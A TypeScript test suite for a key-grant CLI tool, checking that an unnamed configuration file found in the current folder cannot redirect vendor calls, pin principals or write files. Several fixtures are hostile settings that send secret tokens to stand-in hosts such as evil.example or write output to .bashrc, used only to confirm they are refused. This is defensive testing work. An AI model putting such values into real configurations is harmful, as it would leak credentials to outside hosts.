import { readdir } from "node:fs/promises";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { HEALTHY_AWS_KEY, OWNER_TOKEN, VENDOR_DEMO } from "../../src/sandbox/cast.ts";
import { startStub } from "../io/stub.ts";
import { configured, registered } from "./fleet.ts";
import { openWorld } from "./harness.ts";
import { cmks, named, written } from "./peek.ts";

/** A configuration that merely lies there may have come with a cloned repository. */
const KEY = named("granted");
const ROLE = "arn:aws:iam::111122223333:role/keygrant-audit";

describe("a keygrant.yaml in the current folder that nobody named", () => {
  it("sends the vendor's token nowhere, and nothing is asked of anybody", async () => {
    await using world = await openWorld();
    await using thief = await startStub(() => ({ status: 200, body: { cmks: [] } }));
    await configured(world, `vendors: {aiven: {url: "${thief.origin}", projects: {demo: }}}`);
    for (const command of [["validate"], ["onboard", HEALTHY_AWS_KEY, "--yes"]]) {
      const { exitCode, json } = await world.json(command, { cwd: world.stateDir });
      expect({ exitCode, error: json.error }).toMatchObject({
        exitCode: 2,
        error: {
          code: "config.not-trusted",
          message: expect.stringContaining("says a vendor's url"),
          fix: expect.stringContaining("--config keygrant.yaml"),
        },
      });
    }
    expect(thief.requests).toHaveLength(0);
    expect(world.sandbox.requests).toHaveLength(0);
  });

  it.each([
    ["a vendor's token", "vendors: {aiven: {token: env:AWS_SECRET_ACCESS_KEY}}"],
    ["aws", `aws: {role: "${ROLE}"}`],
    ["aws", 'aws: {accounts: {"111122223333": none}}'],
    ["gcp", "gcp: {impersonate: a@b.iam.gserviceaccount.com}"],
    ["oci", "oci: {profile: OTHER}"],
    ["state", "state: env:AIVEN_AUTH_TOKEN"],
    ["state", 'state: "postgres://evil.example/keygrant"'],
    ["notify", 'notify: {x: {url: "https://evil.example/hook", secret: env:AIVEN_AUTH_TOKEN}}'],
    ["outputs to a file", "outputs: {json: .bashrc}"],
  ])("does not decide %s: %s", async (what, line) => {
    await using world = await openWorld();
    await registered(world, KEY);
    await configured(world, line);
    const before = await readdir(world.stateDir);
    const { exitCode, json } = await world.json(["validate"], { cwd: world.stateDir });
    expect({ exitCode, error: json.error }).toMatchObject({
      exitCode: 2,
      error: { code: "config.not-trusted", message: expect.stringContaining(`says ${what}`) },
    });
    expect(world.sandbox.requests.filter((one) => !one.path.startsWith("/_sandbox"))).toHaveLength(0);
    expect(await readdir(world.stateDir)).toEqual(before);
  });

  it("may say which keys are looked at, how carefully, and which principal is pinned", async () => {
    await using world = await openWorld();
    await registered(world, KEY);
    await configured(
      world,
      `vendors: {aiven: {accessors: {aws: {role_arn: "${VENDOR_DEMO.arn}"}}, projects: {demo: }}}`,
      "concurrency: 2",
      "confirm: 1",
      "outputs: {json: '-'}",
      'mutes: [{code: key.rotation-off, reason: known, until: "2100-01-01"}]',
    );
    const run = await world.run(["validate"], { cwd: world.stateDir });
    expect(run).toMatchObject({ exitCode: 0, json: { keys: [{ key: KEY }] } });
  });

  it.each(["--config", "KEYGRANT_CONFIG"])("counts in full once %s names it", async (how) => {
    await using world = await openWorld();
    await registered(world, KEY);
    const path = await configured(world, `vendors: {aiven: {url: "${world.sandbox.origin}", projects: {demo: }}}`);
    const named = how === "--config" ? ["--config", path] : [];
    const env = { AIVEN_WEB_URL: undefined, ...(how === "--config" ? {} : { KEYGRANT_CONFIG: path }) };
    const { exitCode, stderr } = await world.json(["validate", ...named], { env, cwd: world.stateDir });
    expect({ exitCode, stderr }).toMatchObject({
      exitCode: 0,
      stderr: expect.stringContaining(`Configuration: ${path}`),
    });
  });
});

describe("onboard and the configuration", () => {
  const OTHER = "arn:aws:iam::999988887777:role/another";
  const pinned = (role: string) => `vendors: {aiven: {accessors: {aws: {role_arn: "${role}"}}}}`;

  it.each(["--config", "the current folder"])("another principal than the pinned one is refused: %s", async (how) => {
    await using world = await openWorld();
    const path = await configured(world, pinned(OTHER));
    const before = written(world);
    const args = ["onboard", HEALTHY_AWS_KEY, "--yes", ...(how === "--config" ? ["--config", path] : [])];
    const accept = ["--accept-accessor", `role_arn=${VENDOR_DEMO.arn}`];
    for (const more of [[], accept]) {
      const extra = how === "--config" ? {} : { cwd: world.stateDir };
      const { exitCode, json } = await world.json([...args, ...more], extra);
      expect({ exitCode, code: json.error.code }).toEqual({ exitCode: 3, code: "vendor.accessor-changed" });
    }
    expect(written(world)).toEqual(before);
    expect(cmks(world)).toEqual([]);
  });

  it("the pin of a project, and of a listed key, count as well", async () => {
    await using world = await openWorld();
    const project = `vendors: {aiven: {projects: {demo: {accessors: {aws: {role_arn: "${OTHER}"}}}}}}`;
    const key = `keys: [{key: "${HEALTHY_AWS_KEY}", project: demo, accessor: {role_arn: "${OTHER}"}}]`;
    for (const line of [project, key]) {
      const path = await configured(world, line);
      const { exitCode } = await world.json(["onboard", HEALTHY_AWS_KEY, "--yes", "--config", path]);
      expect(exitCode).toBe(3);
    }
  });

  it("an option does not stand over a pin: whoever pinned it is asked", async () => {
    await using world = await openWorld();
    const path = await configured(world, pinned(OTHER));
    const args = ["onboard", HEALTHY_AWS_KEY, "--yes", "--config", path];
    const { exitCode, json } = await world.json([...args, "--expect-accessor", `role_arn=${VENDOR_DEMO.arn}`]);
    expect({ exitCode, code: json.error.code }).toEqual({ exitCode: 3, code: "config.pinned" });
    const right = await configured(world, pinned(VENDOR_DEMO.arn));
    expect((await world.json(["onboard", HEALTHY_AWS_KEY, "--yes", "--config", right])).exitCode).toBe(0);
  });

  it("a plan is held to the pins of whoever applies it", async () => {
    await using world = await openWorld();
    const file = join(world.stateDir, "plan.json");
    await world.run(["onboard", HEALTHY_AWS_KEY, "--plan-out", file]);
    const before = written(world);
    const path = await configured(world, pinned(OTHER));
    const { exitCode, json } = await world.json(["apply", file, "--config", path]);
    expect({ exitCode, code: json.error.code }).toEqual({ exitCode: 3, code: "config.pinned" });
    expect(written(world)).toEqual(before);
  });

  it("the vendor is the file's, the roles for looking are not used to write", async () => {
    await using world = await openWorld();
    const path = await configured(
      world,
      `vendors: {aiven: {url: "${world.sandbox.origin}", token: env:MY_TOKEN}}`,
      `aws: {role: "${ROLE}"}`,
    );
    const env = { AIVEN_WEB_URL: "http://127.0.0.1:1", AIVEN_AUTH_TOKEN: "wrong", MY_TOKEN: OWNER_TOKEN };
    const { exitCode } = await world.json(["onboard", HEALTHY_AWS_KEY, "--yes", "--config", path], { env });
    expect(exitCode).toBe(0);
  });
});
